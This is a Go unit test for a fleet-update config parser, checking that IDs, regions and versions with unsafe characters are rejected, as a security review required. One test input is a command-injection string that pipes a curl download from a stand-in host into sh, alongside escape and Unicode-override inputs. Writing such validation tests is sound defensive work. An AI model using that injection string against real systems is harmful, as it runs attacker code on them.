package fleet_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/svcupdate/svcupdate/internal/fleet"
)

// What an id, a region and a version look like where they are refused.
const (
	idRule = " is 1 to 63 lower-case letters, digits, '.', '_' or '-', starting with a letter or digit" +
		" (it becomes part of workflow IDs, search attributes, emails and the update command's environment)"
	versionRule = `: want MAJOR.MINOR.PATCH without leading zeros (9.2.0), optionally with a lower-case pre-release (9.2.0-rc.1), at most 64 characters`
)

// Instance and tenant IDs, regions and versions end up in workflow IDs,
// search attributes, email subjects and the update command's environment,
// where a shell may read them again (security review H5). The loader
// accepts a small safe alphabet only, and says so with the field's path.
func TestParseRestrictsIdentifiersAndVersions(t *testing.T) {
	valid := readFixture(t, "valid.json")
	long := strings.Repeat("a", 64)
	cases := []struct {
		name, old, new string
		want           string // empty: accepted
	}{
		{"shell metacharacters", `"id": "acme-sbx"`, `"id": "x;curl${IFS}evil|sh"`,
			`instances[1].id: "x;curl${IFS}evil|sh" is not accepted: an instance id` + idRule},
		{"leading dash", `"id": "acme-sbx"`, `"id": "-force"`,
			`instances[1].id: "-force" is not accepted: an instance id` + idRule},
		{"upper case", `"id": "acme-sbx"`, `"id": "Acme-Sbx"`,
			`instances[1].id: "Acme-Sbx" is not accepted: an instance id` + idRule},
		{"right-to-left override", `"id": "acme-sbx"`, `"id": "acme-\u202esbx"`,
			`instances[1].id: "acme-\u202esbx" is not accepted: an instance id` + idRule},
		{"terminal escape", `"id": "acme-sbx"`, `"id": "acme\u001b[31m"`,
			`instances[1].id: "acme\x1b[31m" is not accepted: an instance id` + idRule},
		{"too long", `"id": "acme-sbx"`, `"id": "` + long + `"`,
			`instances[1].id: "` + long + `" is not accepted: an instance id` + idRule},
		{"63 characters", `"id": "acme-sbx"`, `"id": "` + long[1:] + `"`, ""},
		{"dots and underscores", `"id": "acme-sbx"`, `"id": "acme.sbx_2"`, ""},
		{"colon", `"id": "acme-sbx"`, `"id": "acme:sbx"`,
			`instances[1].id: "acme:sbx" is not accepted: an instance id` + idRule},
		{"tenant id", `{"id": "acme", "name": "Acme Corp"}`, `{"id": "acme", "name": "Acme Corp"}, {"id": "acme corp", "name": "Acme"}`,
			`tenants[1].id: "acme corp" is not accepted: a tenant id` + idRule},
		{"instance region", `"region": "eu-west", "timeZone": "America/New_York"`, `"region": "eu west", "timeZone": "America/New_York"`,
			`instances[1].region: "eu west" is not accepted: a region` + idRule},
		{"slot region", `{"region": "us-east", "start"`, `{"region": "US-East", "start"`,
			`releases[2].slots[2].region: "US-East" is not accepted: a region` + idRule},
		{"version in words", `{"version": "9.0.0", "name": "Spring '26"`, `{"version": "nine", "name": "Spring '26"`,
			`releases[0].version: "nine" is not accepted` + versionRule},
		{"two parts", `{"version": "9.0.0", "name": "Spring '26"`, `{"version": "9.0", "name": "Spring '26"`,
			`releases[0].version: "9.0" is not accepted` + versionRule},
		{"leading zero", `{"version": "9.0.0", "name": "Spring '26"`, `{"version": "09.0.0", "name": "Spring '26"`,
			`releases[0].version: "09.0.0" is not accepted` + versionRule},
		{"build metadata", `{"version": "9.0.0", "name": "Spring '26"`, `{"version": "9.0.0+b7", "name": "Spring '26"`,
			`releases[0].version: "9.0.0+b7" is not accepted` + versionRule},
		{"pre-release", `{"version": "9.0.0", "name": "Spring '26"`, `{"version": "9.0.0-rc.1", "name": "Spring '26"`, ""},
		{"long pre-release", `{"version": "9.0.0", "name": "Spring '26"`, `{"version": "9.0.0-` + long + `", "name": "Spring '26"`,
			`releases[0].version: "9.0.0-` + long + `" is not accepted` + versionRule},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if !strings.Contains(valid, tc.old) {
				t.Fatalf("fixture does not contain %q", tc.old)
			}
			doc := strings.Replace(valid, tc.old, tc.new, 1)
			if strings.HasPrefix(tc.old, `{"version": "9.0.0"`) {
				// acme-prod runs the release renamed here; move it on so the
				// version's own problem is the only one.
				doc = strings.Replace(doc, `"version": "9.0.0",`, `"version": "9.1.0",`, 1)
			}
			_, err := fleet.Parse(strings.NewReader(doc))
			if tc.want == "" {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				return
			}
			var verr *fleet.ValidationError
			if !errors.As(err, &verr) {
				t.Fatalf("err = %v, want *fleet.ValidationError", err)
			}
			if len(verr.Problems) != 1 || verr.Problems[0].String() != tc.want {
				t.Fatalf("problems = %q\nwant [%q]", verr.Problems, tc.want)
			}
		})
	}
}
